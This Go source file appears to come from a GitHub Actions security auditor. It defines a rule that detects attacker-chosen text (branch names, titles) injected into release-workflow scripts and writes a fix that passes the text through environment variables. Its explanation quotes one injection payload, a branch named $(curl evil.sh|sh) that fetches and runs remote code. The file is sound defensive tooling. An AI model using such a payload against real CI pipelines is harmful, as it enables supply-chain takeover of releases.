// SPDX-License-Identifier: BSD-3-Clause

package publish

import (
	"maps"
	"slices"
	"strings"

	"github.com/scientific-python/sallyport/internal/finding"
	"github.com/scientific-python/sallyport/internal/workflow"
	"github.com/scientific-python/sallyport/internal/workflow/edit"
	"github.com/scientific-python/sallyport/internal/workflow/expr"
	"github.com/scientific-python/sallyport/internal/workflow/graph"
	"github.com/scientific-python/sallyport/internal/workflow/known"
)

var _ = register(finding.Rule{
	ID:       "untrusted-text-in-script",
	Severity: finding.Error,
	Waivable: true,
	Title:    "Text that others choose becomes part of a script on the path to the index",
	Why: "A branch name, title or commit message that gets into a script, by ${{ … }} or by eval, runs as commands where your release is made. A branch called $(curl evil.sh|sh), or a title like that, " +
		"is a command there: this is how a project's releases were taken over in December 2024. It is an error where anybody with an account " +
		"can choose the text, and a warning where only people who may push or start runs can. Handed over as an environment variable, the text stays text, as long as neither eval nor a shell's -c runs it.",
	Bad:        "- run: git pull origin ${{ github.head_ref || github.ref }}",
	Good:       "- run: git pull origin \"$BRANCH\"\n  env:\n    BRANCH: ${{ github.head_ref || github.ref }}",
	References: []string{"PyPI: Supply-chain attack analysis: Ultralytics (2024-12-11)", "SSDF PW.5.1"},
}, func(a *audit, rule *finding.Rule) {
	for _, sp := range a.spots {
		for _, s := range sp.steps() {
			found := taintsOf(s).in(func(f func(i int) bool) { sp.onPath(s, f) })
			if len(found) > 0 && a.library(sp.job) {
				// Its callers, in other repositories, choose the inputs, and
				// answer for what they pass.
				found = slices.DeleteFunc(found, func(t taint) bool { return strings.HasPrefix(t.path, "inputs.") })
			}
			if len(found) > 0 {
				a.addTaints(rule, sp, s, found)
			}
		}
	}
})

func (a *audit) addTaints(rule *finding.Rule, sp *spot, s *graph.Step, found []taint) {
	worst := found[0]
	var texts []string
	seen := map[string]bool{}
	for _, t := range found {
		if t.who < worst.who {
			worst = t
		}
		if !seen[t.text] {
			seen[t.text] = true
			texts = append(texts, t.text)
		}
	}
	who := map[expr.Setter]string{
		expr.Outsider:   "anybody with an account",
		expr.Pusher:     "whoever may push a branch or tag, or make a release,",
		expr.Dispatcher: "whoever may start or call the workflow",
	}[worst.who]
	script, hint := "its script", "hand the text over in env: and use the variable, in quotes, in the script"
	if worst.does != "" {
		f := a.at(rule, sp.job, s.File, worst.line, "use the variable in quotes, as a word of one command; where a text with line breaks has to go to $GITHUB_ENV, write NAME<<END with an END that is drawn at random",
			"a step of job %q, which %s, %s; %s chooses the text of %q, and with it commands of the script; expected a text that cannot be code",
			sp.job.Job.ID.Value, sp.part(), worst.does, who, worst.path)
		if worst.who != expr.Outsider {
			f.Severity = finding.Warning
		}
		a.add(sp.cap(f))
		return
	}
	if worst.in != "" {
		script = "what its action runs as a script (input " + worst.in + ")"
		hint = "hand the action only text that no outsider can choose, or that a step before it has checked"
		if s.Known.Role == known.Unknown || s.Uses != nil && s.Uses.Name() == "actions/github-script" {
			hint = "hand the text over in env: and read it there (process.env) in the script"
		}
	}
	f := a.at(rule, sp.job, s.File, worst.line, hint,
		"a step of job %q, which %s, puts %s into %s; %s chooses the text of %q, and with it commands of the script; expected a text that cannot be code",
		sp.job.Job.ID.Value, sp.part(), several(texts), script, who, worst.path)
	if worst.who != expr.Outsider {
		f.Severity = finding.Warning
	}
	if !slices.ContainsFunc(found, func(t taint) bool { return t.does != "" }) {
		f.Fix = byVariables(a.source(s.File), s, found)
	}
	a.add(sp.cap(f))
}

// byVariables writes the step with variables in the place of the expressions;
// "" where that is not certain to be the same script.
func byVariables(src edit.Source, s *graph.Step, found []taint) string {
	if s.Step == nil || s.Step.Run == nil || s.Step.Run.Script.Style != workflow.Plain && s.Step.Run.Script.Style != workflow.Literal {
		return "" // quotes would have to be written as YAML wants them
	}
	shell := strings.ToLower(strings.TrimSpace(s.Step.Run.Shell.Value))
	windows := s.Job.Windows && shell == "" || strings.HasPrefix(shell, "pwsh") || strings.HasPrefix(shell, "powershell")
	if shell != "" && !windows && !strings.HasPrefix(shell, "bash") && !strings.HasPrefix(shell, "sh") {
		return ""
	}
	lines := map[int]string{} // as corrected, by number
	names := map[string]string{}
	var vars []string
	for _, t := range found {
		line, ok := lines[t.line]
		if !ok {
			line = src.Line(t.line)
		}
		written := t.text
		if !strings.Contains(line, written) {
			// In a composite action an input stands where the text is put.
			written = onlyExpression(line)
		}
		before, after, ok := strings.Cut(line, written)
		if t.in != "" || written == "" || !ok || strings.Contains(line, " -c ") || strings.Count(before, "'")%2 == 1 {
			return ""
		}
		name := names[written]
		if name == "" {
			name = freeName(variableFor(t.path), s, names)
			names[written] = name
			vars = append(vars, name+": "+written)
		}
		use := "$" + name
		switch {
		case windows:
			use = "$env:" + name
		case after != "" && (after[0] == '_' || isWordByte(after[0])):
			use = "${" + name + "}"
		}
		if strings.Count(before, `"`)%2 == 0 {
			use = `"` + use + `"`
		}
		lines[t.line] = before + use + after
	}
	out := src.WithEnv(s.Step, vars...)
	if out == nil {
		return ""
	}
	for _, n := range slices.Sorted(maps.Keys(lines)) {
		line, i := lines[n], slices.Index(out, src.Line(n))
		if i < 0 || slices.Index(out[i+1:], src.Line(n)) >= 0 {
			return ""
		}
		out[i] = line
		if strings.HasPrefix(strings.TrimLeft(line, " -"), `run: "`) {
			return "" // a text that begins with a quote ends with it
		}
	}
	if len(out) <= longestFix {
		return strings.Join(out, "\n")
	}
	pad := strings.Repeat(" ", max(0, min(s.Step.Pos.Column-1, 80)))
	out = []string{pad + "# sketch: these variables, with those that are there, and these lines of the script", pad + "env:"}
	for _, v := range vars {
		out = append(out, pad+"  "+strings.TrimSpace(v))
	}
	if slices.ContainsFunc(slices.Collect(maps.Values(lines)), func(l string) bool { return strings.Contains(l, "run:") }) {
		return ""
	}
	out = append(out, pad+"run: |")
	for _, n := range slices.Sorted(maps.Keys(lines)) {
		out = append(out, pad+"  # line "+itoa(n), lines[n])
	}
	return strings.Join(out, "\n")
}

// longestFix is the longest step that a fix shows whole.
const longestFix = 24

// freeName is a name that no variable of the step has and no other text got.
func freeName(name string, s *graph.Step, taken map[string]string) string {
	for i, try := 2, name; ; i++ {
		_, has := s.Env[try]
		if !has && !slices.Contains(slices.Collect(maps.Values(taken)), try) {
			return try
		}
		try = name + "_" + itoa(i)
	}
}

func isWordByte(c byte) bool {
	return 'a' <= c && c <= 'z' || 'A' <= c && c <= 'Z' || '0' <= c && c <= '9'
}

// onlyExpression is the one expression of a line, "" for none or several.
func onlyExpression(line string) string {
	open := strings.Index(line, "${{")
	end := strings.LastIndex(line, "}}")
	if open < 0 || end < open || strings.Count(line, "${{") != 1 {
		return ""
	}
	return line[open : end+2]
}

// variableFor is a name for the variable that holds a reference.
func variableFor(path string) string {
	path = strings.TrimPrefix(path, "github.event.")
	path = strings.TrimPrefix(path, "github.")
	name := strings.Map(func(r rune) rune {
		switch {
		case 'a' <= r && r <= 'z':
			return r - 'a' + 'A'
		case 'A' <= r && r <= 'Z' || '0' <= r && r <= '9':
			return r
		}
		return '_'
	}, path)
	if name = strings.Trim(name, "_"); name == "" || len(name) > 40 {
		return "TEXT"
	}
	return name
}
